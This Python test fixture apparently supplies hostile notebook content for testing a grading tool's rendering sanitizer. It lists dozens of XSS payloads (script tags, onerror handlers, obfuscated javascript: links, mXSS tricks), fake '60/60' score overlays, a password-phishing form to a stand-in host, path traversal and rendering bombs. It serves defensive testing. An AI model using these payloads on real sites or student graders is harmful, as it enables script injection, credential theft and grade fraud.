"""What a hostile submission may try on whoever looks at it: set `window.flag`, ask ELSEWHERE, or leave its place."""

from __future__ import annotations

import base64
from typing import Any

ELSEWHERE = "http://elsewhere.test"
TRAP = "/formgrader?path=/tmp/course"  # Formgrader runs the configuration that it finds there
GRADED = "check_rnn_forward"  # the id of a field for marks in Formgrader's page


def run(name: str) -> str:
    """JavaScript that leaves this name behind."""
    return f"(window.flag=window.flag||[]).push('{name}')"


DRAWN = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{}</svg>"
HTML = {
    "script": f"<script>{run('script')}</script>",
    "script in capitals": f"<ScRiPt>{run('capitals')}</sCrIpT>",
    "script of another host": f"<script src='{ELSEWHERE}/script'></script>",
    "picture that fails": f'<img src=x onerror="{run("onerror")}">',
    "slashes for spaces": f"<img/src=x/onerror={run('slashes')}>",
    "unclosed tag": f"<img src=x onerror={run('unclosed')} //",
    "drawing that loads": f"<svg onload=\"{run('svg')}\"><circle r='4'/></svg>",
    "script in a drawing": DRAWN.format(f"<script>{run('drawing')}</script>"),
    "HTML in a drawing": DRAWN.format(f'<foreignObject><img src=x onerror="{run("foreign")}"/></foreignObject>'),
    "drawing that refers": DRAWN.format(f"<image href='{ELSEWHERE}/image' width='9' height='9'/>"),
    "drawing that ends early": f'<svg></svg><img src=x onerror="{run("early")}"></svg>',
    "animated link": f"<svg><a><animate attributeName=href values='javascript:{run('animate')}'/>x</a></svg>",
    "frame": f"<iframe src='{ELSEWHERE}/frame'></iframe>",
    "frame of its own": f'<iframe srcdoc="<script>parent.{run("srcdoc")}</script>"></iframe>',
    "frame of script": f'<iframe src="javascript:parent.{run("frame")}"></iframe>',
    "object": f"<object data='{ELSEWHERE}/object'></object>",
    "embedded": f"<embed src='{ELSEWHERE}/embed'>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={ELSEWHERE}/refresh'>",
    "base": f"<base href='{ELSEWHERE}/base/'>",
    "style sheet": f"<link rel='stylesheet' href='{ELSEWHERE}/sheet.css'>",
    "imported style": f"<style>@import '{ELSEWHERE}/import.css';</style>",
    "style for all": "<style>.nbgrader_cell, table { display: none !important }</style>",
    "fixed over the page": "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:red'>60/60</div>",
    "fixed in escapes": "<div style='posi\\74ion:fixed;top:0;left:0'>60/60</div>",
    "absolute": "<div style='color:red;POSITION : absolute;top:0'>60/60</div>",
    "drawn over what is above": "<div style='margin-top:-900px;background:red'>60/60</div>",
    "transformed": "<div style='transform:translateY(-900px)'>60/60</div>",
    "of no height": "<div style='height:0;line-height:0'>60/60</div>",
    "letters over lines": "<div style='font-size:900px'>60</div>",
    "letters that grow": "<div style='font-size:3em'>" * 8 + "60" + "</div>" * 8,
    "floating": "<img align='left' width=400 height=400 src='figures/a.png'>",
    "climbing": "<sup>" * 30 + "60/60" + "</sup>" * 30,
    "picture in a style": f"<div style='background:url({ELSEWHERE}/url)'>x</div>",
    "picture in a list": f"<ul style='list-style:url({ELSEWHERE}/list)'><li>x</ul>",
    "picture of another host": f"<img src='{ELSEWHERE}/img.png'>",
    "picture of the same scheme": f"<img src='{ELSEWHERE.removeprefix('http:')}/scheme.png'>",
    "pictures to choose from": f"<img srcset='{ELSEWHERE}/set 2x'><picture><source srcset='{ELSEWHERE}/s'></picture>",
    "picture that is a page of the server": f"<img src='{TRAP}'>",
    "picture outside the folder": "<img src='../../../tree.png'><img src='a/%2e%2e/%2e%2e/b.png'>",
    "background of a table": f"<table background='{ELSEWHERE}/background'><tr><td>x</table>",
    "sound": f"<audio src='{ELSEWHERE}/audio' autoplay></audio><video poster='{ELSEWHERE}/poster'></video>",
    "link to script": f'<a href="javascript:{run("href")}">look</a>',
    "link in entities": f"<a href='jav&#x61;script&colon;{run('entity')}'>look</a>",
    "link with a tab": f"<a href='java&Tab;script:{run('tab')}'>look</a>",
    "link to data": f"<a href='data:text/html,<script>{run('data')}</script>'>look</a>",
    "link to a page handed in": "<a href='evil.html'>look</a> <a href='evil.svg'>look</a>",
    "link to one's own server": f"<a href='http://localhost:8888{TRAP}'>look</a><a href='{TRAP}'>look</a>",
    "form": f"<form action='{ELSEWHERE}/form'><input name=password><button>Log in</button></form>",
    "field that takes the keys": f'<input autofocus onfocus="{run("focus")}">',
    "details": f'<details open ontoggle="{run("toggle")}">x</details>',
    "id of a field for marks": f"<div class='nbgrader_cell'><b id='{GRADED}'>x</b></div>",
    "names that scripts use": "<a id='base_url' name='MathJax' href='x.py'>x</a><img name='formgrader'>",
    "classes of the page": "<div class='navbar-fixed-top modal score tabbable'>60/60</div>",
    "what scripts of the page obey": "<a data-link='x' data-toggle='modal' data-target='#notebook'>look</a>",
    "text field left open": "<textarea>",
    "comment left open": "<!-- ",
    "comment that ends early": f'<!--><img src=x onerror="{run("comment")}">-->',
    "section left open": "<![CDATA[ <b>x",
    "ends of what it is in": "</div></div></div></div></div></body></html><h1>60/60</h1>",
    "details left open": "<details><summary>all that follows</summary>",
    "mathematics with HTML in it": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={run('mglyph')}&gt;'>",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={run("noscript")}>">',
    "attribute that ends early": f"<p title='\"><img src=x onerror={run('title')}>'>x</p>",
    "template": f"<template><script>{run('template')}</script></template>",
    "formula over the page": "<b>$\\smash{\\raise 50em{\\text{60/60}}}$</b>",
    "formula in entities": "<b>$&#92;hspace{-90em}60/60$</b>",
    "very deep": "<div>" * 5000 + "x",
    "byte of nothing": f"<scr\0ipt>{run('null')}</scr\0ipt><img src=x o\0nerror={run('null')}>",
}
MARKDOWN = {
    **HTML,
    "link": f"[look](javascript:{run('md')})",
    "link elsewhere in the text": f"[look][1]\n\n[1]: javascript:{run('reference')}",
    "link in brackets": f"<javascript:{run('brackets')}>",
    "picture": f"![look]({ELSEWHERE}/md.png)",
    "picture elsewhere in the text": f"![look][2]\n\n[2]: {ELSEWHERE}/reference.png",
    "picture of the server": f"![look]({TRAP})",
    "picture with an attribute": f'![x](a.png"onerror="{run("quote")})',
    "picture that is missing": "![look](attachment:nothing.png)",
    "diagram": f'```mermaid\n<img src=x onerror="{run("mermaid")}">\n```',
    "heading with the id of a field": f"# {GRADED}",
    "heading below its line": f"{GRADED}\n===",
    "heading with the id of the page": "# notebook",
    "table": f'|a|\n|-|\n|<img src=x onerror="{run("table")}">|',
    "after mathematics": f'$a$ <img src=x onerror="{run("math")}"> $b$',
    "half of a formula": f'$a `b$ <img src=x onerror="{run("half")}"> ` $$ c',
    "code that ends early": f'```\n```\n<img src=x onerror="{run("fence")}">',
    "formulas without end": "\\\\[ " * 3000,
    "quotes within quotes": "> " * 9000 + "x",
}
PIXEL = base64.b64encode(
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\10\6\0\0\0\x1f\x15\xc4\x89\0\0\0\nIDATx\x9cc\0\1\0\0\5\0\1\r\n-\xb4\0\0\0\0IEND\xaeB`\x82"
).decode()
HUGE = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\xff\xff\0\0\xff\xff\1" + bytes(99)).decode()
USES = ("".join((f'<g id="a{n}">', f'<use href="#a{n - 1}"/>' * 10, "</g>")) for n in range(1, 10))
SHAPES = DRAWN.format(f'<path id="a0" d="M0 0h9"/>{"".join(USES)}')
MACROS = "$\\def\\a{xx}\\def\\b{\\a\\a}\\newcommand{\\c}{\\b\\b}\\c$"
OUTPUTS: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {  # data and metadata
    "JavaScript": ({"application/javascript": run("mime")}, {}),
    "widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "a widget"},
        {},
    ),
    "types of vendors": (
        {"application/vnd.bokehjs_exec.v0+json": "", "text/vnd.mermaid": f"<script>{run('vendor')}</script>"},
        {},
    ),
    "Markdown": ({"text/markdown": MARKDOWN["picture that fails"]}, {}),
    "LaTeX": ({"text/latex": f'$a$ <img src=x onerror="{run("latex")}">'}, {}),
    "LaTeX that roams": ({"text/latex": "$\\style{position:fixed;top:0}{60/60}$"}, {}),
    "drawing": ({"image/svg+xml": HTML["script in a drawing"]}, {}),
    "no drawing": ({"image/svg+xml": HTML["picture that fails"]}, {}),
    "drawing of a billion shapes": ({"image/svg+xml": SHAPES}, {}),
    "picture of a billion pixels": ({"image/png": HUGE, "image/jpeg": HUGE}, {}),
    "formulas that stand for formulas": ({"text/latex": MACROS, "text/html": f"<b>{MACROS}</b>"}, {}),
    "picture that closes its attribute": ({"image/png": f'x" onerror="{run("png")}'}, {}),
    "lines of a picture": ({"image/jpeg": ['x" onerror="', run("jpeg"), '"']}, {}),
    "size of a picture": ({"image/png": PIXEL}, {"image/png": {"width": f"1 onload={run('width')}"}}),
    "file name of a picture": ({"image/png": PIXEL}, {"filenames": {"image/png": f"{ELSEWHERE}/name.png"}}),
    "odd metadata": ({"image/png": PIXEL}, {"image/png": "x"}),
    "page of its own": ({"text/html": f"<script>{run('isolated')}</script>x"}, {"text/html": {"isolated": True}}),
    "form of its own": ({f'x"><script>{run("form")}</script>': "x"}, {}),
    "text": ({"text/plain": f"<script>{run('plain')}</script>\x1b[31m<img src=x onerror={run('ansi')}>"}, {}),
}
